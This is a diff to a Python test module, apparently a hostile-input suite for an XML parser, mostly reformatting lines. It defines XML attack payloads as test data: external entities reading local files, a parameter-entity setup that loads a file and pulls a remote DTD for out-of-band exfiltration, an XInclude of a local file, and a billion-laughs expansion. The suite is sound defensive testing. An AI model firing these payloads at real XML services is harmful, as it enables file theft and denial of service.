@@ -18,7 +18,10 @@ from tests.hostile.child import World, crawl_in
 
 NIGHT = date(2024, 9, 17)
 SECRET = "RAHASIA-DI-BERKAS"  # noqa: S105 - what must not get out
-TEN = "".join(f'<!ENTITY {new} "{"".join([f"&{old};"] * 10)}">\n' for old, new in zip("abcdefgh", "bcdefghx", strict=True))
+TEN = "".join(
+    f'<!ENTITY {new} "{"".join([f"&{old};"] * 10)}">\n'
+    for old, new in zip("abcdefgh", "bcdefghx", strict=True)
+)
 LONG = "A" * 50_000
 #: name -> what stands before the root element; FILE and HOST are filled in. The root holds &x;.
 DOCUMENTS: dict[str, str] = {
@@ -26,7 +29,8 @@ DOCUMENTS: dict[str, str] = {
     "external-http": '<!DOCTYPE r [<!ENTITY x SYSTEM "HOST/x.txt">]>',
     "external-public": '<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//EN" "file://FILE">]>',
     "parameter-file": '<!DOCTYPE r [<!ENTITY % p SYSTEM "file://FILE"> %p;]>',
-    "parameter-http": '<!DOCTYPE r [\n<!ENTITY % f SYSTEM "file://FILE">\n<!ENTITY % p SYSTEM "HOST/p.dtd">\n%p;\n]>',
+    "parameter-http": '<!DOCTYPE r [\n<!ENTITY % f SYSTEM "file://FILE">'
+    '<!ENTITY % p SYSTEM "HOST/p.dtd"> %p;\n]>',
     "dtd-http": '<!DOCTYPE r SYSTEM "HOST/r.dtd">',
     "dtd-file": '<!DOCTYPE r PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "file://FILE">',
     "laughs": f'<!DOCTYPE r [\n<!ENTITY a "aaaaaaaaaa">\n{TEN}]>',
@@ -40,7 +44,6 @@ DOCUMENTS: dict[str, str] = {
     "style-sheet": '<?xml-stylesheet type="text/xsl" href="file://FILE"?>',
 }
 INCLUDE = '<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="file://FILE"/>'
-ENCODINGS = {"utf-16": "utf-16", "utf-7": "utf-7", "utf-8": "utf-8"}
 
 
 def documents(root: str, path: Path, host: str) -> dict[str, bytes]:
